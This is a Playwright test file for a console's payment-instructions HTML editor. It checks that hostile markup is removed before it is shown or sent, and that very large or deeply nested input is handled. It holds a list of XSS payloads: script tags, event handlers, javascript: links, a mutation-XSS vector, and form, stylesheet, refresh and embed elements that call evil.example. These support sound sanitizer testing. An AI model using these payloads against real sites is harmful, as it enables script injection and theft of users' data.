import type { Locator, Page } from 'playwright/test'
import {
  created,
  openNewPlan,
  planField,
  reviewAndCreate,
  sentPlans,
  showVisualEditor,
  startAnother,
} from '../../support/pages/plan-page'
import { expect, test } from '../../support/test'

const LABEL = 'Printed on driver invoice PDFs'

const HOSTILE = [
  '<p>Pay <b>now</b></p>',
  '<script>window.hacked = 1</script>',
  '<img src="x" onerror="window.hacked = 2">',
  '<p onclick="window.hacked = 3" style="background:url(//evil.example/x)">text</p>',
  '<a href="javascript:window.hacked=4">bad</a>',
  '<a href="https://pay.example/?a=1&amp;b=2" target="_blank" onmouseover="window.hacked=5">good</a>',
  '<svg><script>window.hacked = 6</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=7&gt;">',
  '<iframe srcdoc="<script>parent.hacked = 8</script>"></iframe>',
  '<form action="https://evil.example"><input name="token"><button>go</button></form>',
  '<style>@import url(https://evil.example/x.css)</style><link rel="stylesheet" href="https://evil.example/y.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<object data="https://evil.example/z"></object><embed src="https://evil.example/z">',
].join('\n')

const ALLOWED = /^(?:<\/?(?:p|strong|b|em|i|u|ul|ol|li|a)>|<br>|<a href="https?:\/\/[^"]*">)$/

test.beforeEach(async ({ page, signInAs }) => {
  await signInAs('manager')
  await openNewPlan(page)
  await planField(page, 'Plan name').fill('Instructions')
})

async function writeSource(page: Page, html: string): Promise<void> {
  await page.getByRole('tab', { name: 'HTML source' }).click()
  await planField(page, LABEL).fill(html)
}

function pasteHtml(editor: Locator, html: string): Promise<void> {
  return editor.evaluate((element, text) => {
    const data = new DataTransfer()
    data.setData('text/html', text)
    element.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
    )
  }, html)
}

test('F47 plans: hostile HTML is removed before it is shown or sent, with a message', {
  tag: ['@core', '@elsewhere'],
}, async ({ page, wire }) => {
  await test.step('written as HTML', async () => {
    const foreign: string[] = []
    page.on('request', (request) => {
      // Of the console's and the API's own hosts, and no other.
      if (new URL(request.url()).hostname !== new URL(page.url()).hostname) foreign.push(request.url())
    })
    await writeSource(page, HOSTILE)
    await expect(page.getByText(/Removed.*<script>.*onclick of <p>/)).toBeVisible()
    await page.getByRole('tab', { name: 'Invoice' }).click()
    await expect(
      page.frameLocator('iframe[title="Payment instructions on the invoice"]').getByText('good'),
    ).toBeVisible()
    await page.getByRole('tab', { name: 'Visual editor' }).click()
    await expect(planField(page, LABEL)).toContainText('good')
    await reviewAndCreate(page)
    await expect(created(page)).toBeVisible()
    const sent = String(sentPlans(wire)[0]?.payment_instructions)
    for (const tag of sent.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(ALLOWED)
    expect(sent).toContain('<p>Pay <b>now</b></p>')
    expect(sent).toContain('<a href="https://pay.example/?a=1&amp;b=2">good</a>')
    expect(await page.evaluate(() => Reflect.get(window, 'hacked') as unknown)).toBeUndefined()
    expect(foreign).toEqual([])
  })

  await test.step('pasted into the visual editor', async () => {
    await startAnother(page)
    await planField(page, 'Plan name').fill('Instructions')
    const editor = planField(page, LABEL)
    await showVisualEditor(page)
    await editor.click()
    await pasteHtml(editor, HOSTILE)
    await expect(editor).toContainText('good')
    await expect(page.getByText(/Removed/)).toBeVisible()
    await reviewAndCreate(page)
    await expect(created(page)).toBeVisible()
    const sent = String(sentPlans(wire)[1]?.payment_instructions)
    for (const tag of sent.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(ALLOWED)
    expect(await page.evaluate(() => Reflect.get(window, 'hacked') as unknown)).toBeUndefined()
  })
})

test('F74 plans: 50,000 unfinished and 9,000 nested tags are read at once, typed or pasted', async ({
  page,
}) => {
  const html = '<a'.repeat(50_000)
  await writeSource(page, `<p>Pay now</p>${html}`.slice(0, 100_000))
  await page.getByRole('tab', { name: 'Visual editor' }).click()
  const editor = planField(page, LABEL)
  await expect(editor).toContainText('Pay now')
  for (const pasted of [html, '<a href="'.repeat(11_000), '<b onclick='.repeat(9_000)])
    await pasteHtml(editor, `<p>Pasted</p>${pasted}`.slice(0, 100_000))
  await expect(editor).toContainText('Pasted')

  const note = page.getByText('tags within more than 60 others (their text stays)')
  const nested = (text: string) => `${'<div>'.repeat(9000)}${text}${'</div>'.repeat(9000)}`
  await pasteHtml(editor, nested('Deeply pasted'))
  await expect(editor).toContainText('Deeply pasted')
  await expect(note).toBeVisible()
  await writeSource(page, nested('Deeply typed'))
  await expect(note).toBeVisible()
  await page.getByRole('tab', { name: 'Visual editor' }).click()
  await expect(editor).toHaveText('Deeply typed')
})

test('payment instructions are written and formatted', async ({ page, wire }) => {
  await test.step('placeholders are warned of', async () => {
    await writeSource(page, '<p>Dear {{ driver }}</p>')
    await expect(
      page.getByRole('region', { name: 'Payment instructions' }).getByText(/Placeholders/),
    ).toBeVisible()
  })

  await test.step('the visual editor says what it would change, and changes nothing by itself', async () => {
    // It has no list directly within a list.
    const html = '<ul><ol><li>three</li></ol></ul>'
    await writeSource(page, html)
    await page.getByRole('tab', { name: 'Visual editor' }).click()
    const warning = page.getByRole('status').filter({ hasText: 'cannot show all of this HTML' })
    await expect(warning).toContainText('<ul>')
    await planField(page, LABEL).click()
    await page.keyboard.type('nothing')
    await warning.getByRole('button', { name: 'Edit the HTML' }).click()
    await expect(planField(page, LABEL)).toHaveValue(html)
    await page.getByRole('tab', { name: 'Visual editor' }).click()
    await warning.getByRole('button', { name: 'Drop it' }).click()
    await page.keyboard.type('More ')
    await page.getByRole('tab', { name: 'HTML source' }).click()
    await expect(planField(page, LABEL)).toHaveValue(/More/)
  })

  await test.step('typed and formatted text is sent as previewed; an emptied editor sends nothing', async () => {
    await writeSource(page, '')
    await page.getByRole('tab', { name: 'Visual editor' }).click()
    await expect(page.getByRole('button', { name: 'Bold' })).toBeVisible()
    const editor = planField(page, LABEL)
    await editor.click()
    await page.keyboard.type('Pay at ')
    await page.getByRole('button', { name: 'Link', exact: true }).click()
    const dialog = page.getByRole('dialog', { name: 'Link' })
    await dialog.getByRole('textbox', { name: 'Address' }).fill('javascript:alert(1)')
    await dialog.getByRole('button', { name: 'Set link' }).click()
    await expect(dialog.getByText('Write a whole address, like https://')).toBeVisible()
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    await page.getByRole('button', { name: 'Bullet list' }).click()
    await page.getByRole('tab', { name: 'HTML source' }).click()
    await expect(planField(page, LABEL)).toHaveValue('<ul><li><p>Pay at </p></li></ul>')
    await page.getByRole('tab', { name: 'Visual editor' }).click()
    await editor.click()
    await page.keyboard.press('Control+A')
    await page.keyboard.press('Delete')
    await page.keyboard.press('Backspace')
    await page.getByRole('tab', { name: 'HTML source' }).click()
    await expect(planField(page, LABEL)).toHaveValue('')
    await reviewAndCreate(page)
    await expect(created(page)).toBeVisible()
    expect(sentPlans(wire)[0]).not.toHaveProperty('payment_instructions')
  })
})
